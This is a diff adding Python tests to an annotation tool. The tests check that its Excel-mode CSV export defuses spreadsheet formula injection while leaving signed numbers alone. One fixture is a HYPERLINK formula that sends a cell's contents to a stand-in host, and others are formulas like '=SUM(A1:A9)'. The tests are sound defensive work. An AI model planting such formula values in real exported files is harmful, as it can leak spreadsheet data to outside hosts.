@@ -165,3 +165,69 @@ def test_a_damaged_offset_map_leaves_the_original_offsets_empty(tmp_path, capsys
         frame = pd.read_parquet(out)
         assert len(frame) == 4 and frame["original_start"].isna().all()
         assert frame["original_end"].isna().all()
+
+
+FORMULA_TITLE = '=HYPERLINK("http://example.com/?d="&A1,"详情")'
+FORMULA_TEXT = "-3.5%的降幅之后，+10%的回升，@全体股东：本季营收-2亿元。"
+
+
+def _formula_project(path):
+    """Cells a spreadsheet would run as formulas: a title, an annotator's name,
+    an attribute, a sentence, next to cells that are plain signed numbers."""
+    with Project.create(path, annotator="=1+1") as project:
+        doc, _ = project.add_document(FORMULA_TEXT, title=FORMULA_TITLE)
+        for surface, attrs in (
+            ("-3.5%", {"indicator": "=SUM(A1:A9)", "value": -0.035}),
+            ("+10%", {"indicator": "\t=1+1", "value": 0.1}),
+            ("-2亿元", {"indicator": "营收", "value": -2e8}),
+        ):
+            start = FORMULA_TEXT.index(surface)
+            project.add_span(doc, start, start + len(surface), "METRIC", attrs=attrs)
+        project.set_status(doc, "done")
+
+
+def test_excel_csv_defuses_formulas_but_keeps_signed_numbers(tmp_path):
+    import csv
+
+    _formula_project(tmp_path / "f.biaozhu")
+    with Project.open(tmp_path / "f.biaozhu") as project:
+        plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
+        export_project(project, "metrics-csv", plain)
+        export_project(project, "metrics-csv", excel, options={"excel": True})
+    with open(excel, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["text"] for r in rows] == ["-3.5%", "+10%", "'-2亿元"]  # numbers stay data
+    assert {r["title"] for r in rows} == {"'" + FORMULA_TITLE}
+    assert {r["annotator"] for r in rows} == {"'=1+1"}
+    assert [r["indicator"] for r in rows] == ["'=SUM(A1:A9)", "'\t=1+1", "营收"]
+    assert {r["sentence"][:2] for r in rows} == {"'-"}
+    assert [float(r["value"]) for r in rows] == [-0.035, 0.1, -2e8]  # numeric column untouched
+    # the file for pandas holds the texts as they are
+    frame = pd.read_csv(plain, keep_default_na=False)
+    assert set(frame["title"]) == {FORMULA_TITLE} and set(frame["annotator"]) == {"=1+1"}
+    assert list(frame["indicator"]) == ["=SUM(A1:A9)", "\t=1+1", "营收"]
+
+
+def test_a_metric_value_that_is_no_number_is_counted_not_silently_missing(tmp_path, capsys):
+    text = "营收18亿元，利润约3亿元，税收1,200万元，成本nan元。"
+    with Project.create(tmp_path / "v.biaozhu", annotator="alice") as project:
+        doc, _ = project.add_document(text)
+        for surface, value in (
+            ("18亿元", 1.8e9),
+            ("约3亿元", "约3亿"),
+            ("1,200万元", "1,200"),
+            ("nan元", "nan"),
+        ):
+            start = text.index(surface)
+            project.add_span(doc, start, start + len(surface), "METRIC", attrs={"value": value})
+        project.set_status(doc, "done")
+    out = tmp_path / "metrics.csv"
+    assert (
+        main(["export", str(tmp_path / "v.biaozhu"), "--format", "metrics-csv", "--out", str(out)])
+        == 0
+    )
+    said = capsys.readouterr().out
+    assert "2 METRIC value(s) are not numbers" in said
+    frame = pd.read_csv(out)
+    assert frame["value"].isna().tolist() == [False, True, False, True]  # nan is no value either
+    assert manifest_of(out)["notes"] == {"metrics_values_not_numbers": 2}
